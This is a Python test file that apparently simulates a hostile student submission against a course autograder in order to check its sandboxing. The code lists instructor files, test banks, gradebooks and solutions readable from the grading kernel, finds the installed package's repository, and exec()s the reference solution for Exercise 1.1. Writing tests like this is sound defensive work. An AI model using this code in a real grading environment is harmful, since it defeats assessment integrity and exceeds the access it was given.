"""Class: 1
Name: c1_course_files
Tries: walk what the grading kernel can read beyond its submission: the course folder's instructors/,
    tests/ (misconception banks), solutions/, grades, status files, and the course repository the installed
    `socialcredit` package points to (its solutions/ even when the course folder is elsewhere); execs the
    repository's solution for Exercise 1.1.
Grader must: bind only the submission (read-write, scratch) and the software and data (read-only) into the
    sandbox; the package must be installed from a copy that carries no solutions; report the attempt.
"""
import pathlib as _pathlib

import socialcredit as _sc

_course = _pathlib.Path("../../..").resolve()
_seen = {}
for _name in ("solutions", "instructors", "tests", "lessons", "submitted", "autograded", "feedback"):
    _d = _course / _name
    _seen[_name] = sum(1 for p in _d.rglob("*") if p.is_file()) if _d.is_dir() else 0
for _name in ("gradebook.db", "autograde-status.csv", "grades.csv", "nbgrader_config.py"):
    _seen[_name] = (_course / _name).is_file()
print("ATTACK: readable in the course folder:", _seen)
_repo = _pathlib.Path(_sc.__file__).resolve().parents[2]
_sol = _repo / "solutions" / "01-dossier" / "01-dossier.ipynb"
print("ATTACK: package repository's solutions readable:", _sol.is_file(), "| instructors:",
      len(list((_repo / "instructors").glob("*.md"))) if (_repo / "instructors").is_dir() else 0)
if _sol.is_file():
    import nbformat as _nbf
    for _c in _nbf.read(_sol, as_version=4).cells:
        if _c.metadata.get("nbgrader", {}).get("grade_id") == "ex1_1_normalise_ids":
            exec("\n".join(ln for ln in _c.source.split("\n") if "### " not in ln), globals())
            print("ATTACK: executed the repository's solution of Exercise 1.1")
